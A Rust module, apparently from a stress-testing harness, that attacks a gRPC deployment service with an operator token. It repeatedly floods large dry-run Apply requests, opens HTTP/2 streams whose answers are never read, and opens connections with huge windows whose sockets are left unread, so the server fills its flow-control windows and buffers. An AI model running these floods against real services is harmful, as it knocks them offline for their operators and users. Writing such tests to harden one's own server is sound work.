//! What an operator with a valid token may do.

use anyhow::Result;
use bytes::{BufMut, Bytes, BytesMut};
use h2::client::SendRequest;
use jaco_proto::v1;
use prost::Message;
use serde_json::{Value, json};
use tokio::task::JoinSet;

use super::victim::{Victim, call};

/// Where its connections come from.
const SOURCE: u8 = 2;

const DRY_RUNS: usize = 32;
const SERVICES: usize = 400;

const STREAM_CONNECTIONS: usize = 4;
const STREAMS: usize = 125;
/// What a client announces that has room for all answers.
const WINDOW: u32 = 1 << 30;

/// Dry runs of many services, so many at a time, each followed by the next at once.
pub(super) async fn dry_runs(victim: Victim, token: &str, ports: &str) {
    let message = message(&request(ports));
    let mut running = JoinSet::new();
    for _ in 0..DRY_RUNS {
        let (victim, token, message) = (victim.clone(), token.to_owned(), message.clone());
        running.spawn(async move {
            victim
                .again(|| async {
                    let stream = victim.tls(SOURCE).await?;
                    let (sender, connection) = h2::client::handshake(stream).await?;
                    tokio::select! {
                        ended = connection => ended?,
                        failed = dry_runs_over(&victim, &sender, &token, &message) => failed?,
                    }
                    Ok(())
                })
                .await;
        });
    }
    running.join_all().await;
}

async fn dry_runs_over(
    victim: &Victim,
    sender: &SendRequest<Bytes>,
    token: &str,
    message: &Bytes,
) -> Result<()> {
    loop {
        let (answer, mut body) = call(sender, "/jaco.v1.Deploy/Apply", Some(token)).await?;
        body.send_data(message.clone(), true)?;
        victim.count(1);
        let mut answer = answer.await?.into_body();
        while let Some(part) = answer.data().await {
            answer.flow_control().release_capacity(part?.len())?;
        }
    }
}

fn request(ports: &str) -> v1::ApplyRequest {
    let service = json!({"image": "web:1", "ports": [ports]});
    let services: serde_json::Map<String, Value> =
        (0..SERVICES).map(|number| (format!("web-{number}"), service.clone())).collect();
    let model = json!({"name": "large", "services": services});
    v1::ApplyRequest {
        compose_json: model.to_string(),
        dry_run: true,
        ..v1::ApplyRequest::default()
    }
}

/// A message as gRPC sends it: not compressed, with its length.
fn message(request: &impl Message) -> Bytes {
    let length = u32::try_from(request.encoded_len()).expect("a request is short");
    let mut bytes = BytesMut::new();
    bytes.put_u8(0);
    bytes.put_u32(length);
    request.encode(&mut bytes).expect("a buffer grows");
    bytes.freeze()
}

/// Streams whose answers are not taken: the windows of the connections fill, and stay so.
pub(super) async fn stalled(victim: Victim, token: &str, method: &'static str) {
    on_connections(victim, token, move |victim, token| async move {
        let stream = victim.tls(SOURCE).await?;
        let (sender, connection) = h2::client::handshake(stream).await?;
        let connection = tokio::spawn(connection);
        let _streams = open(&victim, &sender, &token, method).await?;
        connection.await??;
        Ok(())
    })
    .await;
}

/// Streams with room for all answers, over sockets that are not read once all are open.
pub(super) async fn unread_sockets(victim: Victim, token: &str, method: &'static str) {
    on_connections(victim, token, move |victim, token| async move {
        let stream = victim.tls(SOURCE).await?;
        let mut builder = h2::client::Builder::new();
        builder.initial_window_size(WINDOW).initial_connection_window_size(WINDOW);
        let (sender, connection) = builder.handshake(stream).await?;
        let mut connection = Box::pin(connection);
        let _streams = tokio::select! {
            ended = &mut connection => return Ok(ended?),
            streams = open(&victim, &sender, &token, method) => streams?,
        };
        // The last requests leave with the next look at the connection, and after it nothing is read.
        let _still =
            tokio::time::timeout(std::time::Duration::from_millis(1), &mut connection).await;
        std::future::pending().await
    })
    .await;
}

async fn on_connections<O, F>(victim: Victim, token: &str, once: O)
where
    O: Fn(Victim, String) -> F + Copy + Send + Sync + 'static,
    F: Future<Output = Result<()>> + Send + 'static,
{
    let mut running = JoinSet::new();
    for _ in 0..STREAM_CONNECTIONS {
        let (victim, token) = (victim.clone(), token.to_owned());
        running.spawn(async move { victim.again(|| once(victim.clone(), token.clone())).await });
    }
    running.join_all().await;
}

/// Asks on as many streams as a connection has, and keeps the answers that are not there yet.
async fn open(
    victim: &Victim,
    sender: &SendRequest<Bytes>,
    token: &str,
    method: &str,
) -> Result<Vec<h2::client::ResponseFuture>> {
    let mut streams = Vec::new();
    for _ in 0..STREAMS {
        let (answer, mut body) = call(sender, method, Some(token)).await?;
        body.send_data(Bytes::from_static(&[0; 5]), true)?;
        victim.count(1);
        streams.push(answer);
    }
    Ok(streams)
}
